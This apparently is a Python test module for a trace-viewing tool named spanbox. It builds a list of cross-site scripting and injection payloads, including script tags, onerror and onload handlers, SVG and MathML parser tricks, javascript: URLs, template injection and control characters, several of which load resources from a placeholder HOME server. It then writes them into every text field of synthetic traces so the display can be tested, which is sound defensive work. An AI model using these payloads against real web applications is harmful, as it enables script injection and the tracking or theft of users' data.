"""Texts that try to run in a page, or to call home, and a store that has them in every field.

30 of them unless $SPANBOX_HOSTILE says how many: up to as many as there are in plain, they are taken evenly from these,
beyond that evenly from all ways to hide each of them."""

from __future__ import annotations

import html
import json
import os
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import spanbox
from spanbox import Box

MS = 1_000_000
START_NS = 1_700_000_000_000_000_000
TRACE_ID = "7f3a" + "0" * 28

# HOME is the address of a server that counts who calls it, RUN a statement that leaves a mark.
_TEXTS = (
    "<script>RUN</script>",
    "<script src=HOME/a.js></script>",
    "</script><script>RUN</script>",
    "</style><script>RUN</script>",
    "</title><script>RUN</script>",
    "</textarea><script>RUN</script>",
    "</pre></details><script>RUN</script>",
    "--><script>RUN</script><!--",
    "]]><script>RUN</script>",
    "</template><script>RUN</script>",
    "<script type=module>RUN</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script\n>RUN</script\n>",
    "<script/x>RUN</script>",
    "<img src=x onerror=\"RUN\">",
    "\"><img src=x onerror=\"RUN\">",
    "'><img src=x onerror='RUN'>",
    "<img src=HOME/i.png>",
    "<img srcset='HOME/j.png 1x'>",
    "<picture><source srcset=HOME/k.png><img></picture>",
    "<svg onload=\"RUN\">",
    "<svg/onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><script href=HOME/s.js></script></svg>",
    "<svg><animate onbegin=\"RUN\" attributeName=x dur=1s>",
    "<svg><image href=HOME/s.png /></svg>",
    "<svg><use href=HOME/u.svg#x /></svg>",
    "<svg><a href=\"javascript:RUN\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=\"RUN\"></style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=\"RUN\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"RUN\">",
    "<math><maction actiontype=statusline xlink:href=\"javascript:RUN\">x</maction></math>",
    "<iframe srcdoc=\"<script>parent.RUN</script>\"></iframe>",
    "<iframe src=HOME/f></iframe>",
    "<iframe src=\"javascript:parent.RUN\"></iframe>",
    "<object data=HOME/o></object>",
    "<object data=\"javascript:RUN\"></object>",
    "<embed src=HOME/e>",
    "<embed src='javascript:RUN'>",
    "<link rel=stylesheet href=HOME/c.css>",
    "<link rel=preload as=script href=HOME/p.js>",
    "<style>@import 'HOME/d.css';</style>",
    "<style>body{background:url(HOME/b.png)}</style>",
    "<p style='background:url(HOME/y)'>",
    "<meta http-equiv=refresh content=\"0;url=HOME/m\">",
    "<base href=HOME/>",
    "<form action=HOME/p><input autofocus onfocus=\"RUN\"></form>",
    "<input autofocus onfocus=\"RUN\">",
    "<details open ontoggle=\"RUN\">x</details>",
    "<video src=HOME/v autoplay onerror=\"RUN\"></video>",
    "<audio src=x onerror=\"RUN\">",
    "<body onload=\"RUN\">",
    "<style onload=RUN></style>",
    "<x tabindex=1 onfocus=RUN onpointerrawupdate=RUN style='animation:x 1s' onanimationstart=RUN>",
    "<p style='content-visibility:auto' oncontentvisibilityautostatechange=RUN>",
    "<template><img src=x onerror=RUN></template>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "\" onmouseover=\"RUN\" autofocus onfocus=\"RUN\" x=\"",
    "' onload='RUN' x='",
    "<a href=\"javascript:RUN\" id=x>x</a><script>x.click()</script>",
    "javascript:RUN",
    "__proto__",
    "constructor",
    "data:text/html,<script>RUN</script>",
    "{{constructor.constructor('RUN')()}}${RUN}<%= RUN %>",
    "![pixel](HOME/z.png) [x](HOME/x) [y](javascript:RUN)",
    "\u2028<script>RUN</script>\u2029\x00<scr\x00ipt>RUN</scr\x00ipt>",
    "\u202e\u2066<script>RUN</script>\u2069\u202c\ufeff\x1b[2J",
)  # fmt: skip
_ALSO: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: f"\"'>]]>--></title></script>{text}",
    lambda text: html.escape(text),
    lambda text: quote(text, safe="<>=\"'"),
    lambda text: json.dumps({"a": [text]}),
    lambda text: text.upper(),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("<", "<\0"),
    lambda text: f"[x]({text})",
)
ALL = list(dict.fromkeys(also(text) for text in _TEXTS for also in _ALSO))


def hostile_texts(run: str, home: str) -> list[str]:
    wanted = min(len(ALL), int(os.environ.get("SPANBOX_HOSTILE", "30")))
    pool = _TEXTS if wanted <= len(_TEXTS) else ALL
    chosen = [pool[i * len(pool) // wanted] for i in range(wanted)]
    return [each.replace("RUN", run).replace("HOME", home) for each in chosen]


def hostile_store(box: Box, texts: list[str]) -> None:
    """Every field that takes a text has each of the texts in some span of one trace, and some trace's root."""
    rows = []
    for number, text in enumerate(texts, 1):
        fields: dict[str, Any] = {
            name: text
            for name, _, kind, _ in spanbox.columns()
            if kind in ("string", "text") and name not in ("kind", "status", "events", "links")
        }
        fields |= {
            "name": text, text[:60].replace("\0", ""): text, "status": "error", "kind": "llm", "cost_usd": 0.1,
            "duration_ns": number * MS, "ttft_ns": MS // 2, "output_tokens": 7,
            "input": [{"role": text, "content": text, "tool_calls": [{"name": text}]}],
            "output": {"role": "assistant", "content": [{"type": text, text: text}]},
            "events": [{"name": text, "time_ns": START_NS, "attributes": {"a": text}}],
            "gen_ai.retrieval.documents": [{"id": text, "title": text, "content": text, "score": 0.5}],
        }  # fmt: skip
        own = {**fields, "trace_id": TRACE_ID, "span_id": f"{number + 1:016x}", "start_ns": START_NS + number * MS}
        rows.append(own if number == 1 else {**own, "parent_id": f"{2:016x}"})
        rows.append({**fields, "trace_id": f"{number:032x}", "span_id": f"{1:016x}", "start_ns": START_NS + MS})
    box._store.append(rows)
    for number, text in enumerate(texts, 1):
        box.score(
            text[:100].replace("\0", "") or "x", label=text, explanation=text, evaluator=text, trace_id=TRACE_ID,
            span_id=f"{number + 1:016x}",
        )  # fmt: skip
